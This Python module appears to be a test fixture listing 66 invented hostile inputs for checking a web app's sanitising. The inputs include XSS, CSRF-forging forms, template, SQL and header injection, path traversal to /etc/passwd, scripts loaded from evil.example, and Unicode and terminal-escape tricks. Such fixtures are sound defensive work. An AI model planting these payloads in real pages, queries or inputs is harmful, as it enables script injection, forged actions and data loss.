"""Sixty-six texts that a stranger may write to do something to whoever reads them. All of them are invented."""

from __future__ import annotations

_SCRIPT = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script src=https://evil.example/x.js></script>',
    "<ScRiPt>alert(String.fromCharCode(49))</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '"><img src="https://evil.example/pixel.gif">',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "<body onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red'>all is well</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
_FORMS = [
    "<form action=https://evil.example><input name=csrf></form>",
    "</form><form method=post action=/case/p0/approve><button>look here</button>",
    "<button formaction=https://evil.example>approve</button>",
    "<input type=hidden name=csrf value=mine>",
    "<a href='/case/p0/approve'>approve</a>",
]
_TEMPLATES = [
    "{{ 7 * 7 }}{{ config }}{{ request.state.csrf }}",
    "{% include 'base.html' %}{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %> %(csrf)s {csrf} {0}",
    "'; DROP TABLE posts; --",
    "../../../../etc/passwd\x00.html",
    "line\r\nSet-Cookie: nightlight=mine\r\n\r\n<p>",
    "event: waiting\ndata: {}\n\n",
]
_MARKDOWN = [
    "[look](javascript:alert(1))",
    "[look](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.gif)",
    "[x]: https://evil.example\n[x]",
    "<https://evil.example>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "# a heading\n\n> a quote\n\n---\n| a | b |\n|---|---|",
    "/u/admin /r/testsub @everyone https://evil.example",
]
_PICTURES = [
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>look</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
]
_LETTERS = [
    "\u202eevorppa\u202c and \u2066\u2067hidden\u2069\u2069",
    "\u200b\u200c\u200d\ufeff\u2060 nothing to see \u00ad",
    "Z" + "\u0351\u0352\u0357\u035b" * 50 + " stacked",
    "\x1b[2J\x1b]0;a terminal\x07\x9b31m",
    "\U000e0041\U000e0042 tags \ufff9 \ufffe \uffff",
]
_LONG = ["a" * 40_000, "<b>" * 13_000]

HOSTILE = [*_SCRIPT, *_FORMS, *_TEMPLATES, *_MARKDOWN, *_PICTURES, *_LETTERS, *_LONG]
